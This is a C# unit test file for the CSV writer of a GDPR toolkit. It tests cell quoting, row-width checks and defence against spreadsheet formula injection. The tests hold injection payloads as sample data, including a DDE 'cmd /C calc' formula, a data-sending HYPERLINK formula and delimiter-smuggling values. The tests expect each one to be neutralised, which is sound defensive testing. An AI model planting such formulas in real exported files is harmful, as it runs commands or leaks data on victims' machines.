using CsCheck;

namespace GdprKit.Documents;

public sealed class CsvWriterTests
{
    [Fact]
    public void The_columns_are_named_and_every_line_ends_with_carriage_return_and_line_feed()
    {
        Csv(["Naam", "Termijn"], ["e-mailadres", "2 jaar"]).Should().Be("Naam,Termijn\r\ne-mailadres,2 jaar\r\n");
    }

    [Theory]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("a \"b\" c", "\"a \"\"b\"\" c\"")]
    [InlineData("a\nb", "\"a\nb\"")]
    [InlineData("a\r\nb", "\"a\r\nb\"")]
    [InlineData(" a", "\" a\"")]
    [InlineData("a ", "\"a \"")]
    [InlineData("a;b", "a;b")]
    [InlineData("€ é 😀", "€ é 😀")]
    [InlineData("", "")]
    public void A_cell_is_quoted_where_it_must_be(string cell, string written)
    {
        Csv(["one", "two"], ["x", cell]).Should().Be($"one,two\r\nx,{written}\r\n");
    }

    [Fact]
    public void A_row_of_one_empty_cell_is_no_empty_line()
    {
        Csv(["one"], [""]).Should().Be("one\r\n\"\"\r\n");
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+31 20 000 0000", "'+31 20 000 0000")]
    [InlineData("-1", "'-1")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t'=1")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("\nx", "'\nx")]
    [InlineData("＝1", "'＝1")]
    [InlineData("  =1", "  '=1")]
    [InlineData("\"=1\"", "\"'=1\"")]
    [InlineData("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"https://example.org?x=\"&A1,\"click\")", "'=HYPERLINK(\"https://example.org?x=\"&A1,\"click\")")]
    public void What_a_spreadsheet_would_run_gets_an_apostrophe(string cell, string read)
    {
        CsvFile.Read(Csv(["one", "two"], ["x", cell]))[1][1].Should().Be(read);
    }

    [Theory]
    [InlineData("name;=1+1")]
    [InlineData("name; @SUM(A1)")]
    [InlineData("name\t+1")]
    [InlineData("name\n-1")]
    [InlineData("a,\"b\";=1")]
    [InlineData("a;\"=1\"")]
    public void What_a_spreadsheet_would_run_as_a_new_cell_gets_an_apostrophe_too(string cell)
    {
        var csv = Csv(["one", "two"], ["x", cell]);

        foreach (var delimiter in new[] { ";", "\t", "," })
        {
            CsvFile.Read(csv, delimiter).SelectMany(row => row).Select(read => read.TrimStart(' ', '"'))
                .Should().NotContain(read => read.Length > 0 && "=+-@".Contains(read[0]));
        }
    }

    [Theory]
    [InlineData("a = b + c - d @ e")]
    [InlineData("info@example.nl")]
    [InlineData("e-mail: +31")]
    [InlineData("'quoted'")]
    public void A_sign_within_a_text_is_left_alone(string cell)
    {
        CsvFile.Read(Csv(["one", "two"], [cell, "x"]))[1][0].Should().Be(cell);
    }

    [Fact]
    public void Any_text_comes_back_as_it_was_but_for_apostrophes()
    {
        Gen.String[Gen.Char[",;\"'\r\n\t =+-@aé€"], 0, 8].Array[1, 4].Sample(cells =>
        {
            var read = CsvFile.Read(Csv([.. cells.Select((_, column) => $"c{column}")], cells));

            read.Should().HaveCount(2);
            read[1].Select(WithoutApostrophes).Should().Equal(cells.Select(WithoutApostrophes));
        }, iter: 2_000);
    }

    [Theory]
    [InlineData(1)]
    [InlineData(3)]
    public void A_row_of_another_width_is_refused(int cells)
    {
        var csv = new CsvWriter(new StringWriter(), ["one", "two"]);

        csv.Invoking(writer => writer.WriteRow(new string[cells])).Should().Throw<ArgumentException>().WithMessage("GDPR1007:*");
    }

    private static string WithoutApostrophes(string text) => text.Replace("'", "", StringComparison.Ordinal);

    private static string Csv(string[] headers, params string[][] rows)
    {
        using var output = new StringWriter();
        var csv = new CsvWriter(output, headers);
        foreach (var row in rows)
        {
            csv.WriteRow(row);
        }

        return output.ToString();
    }
}
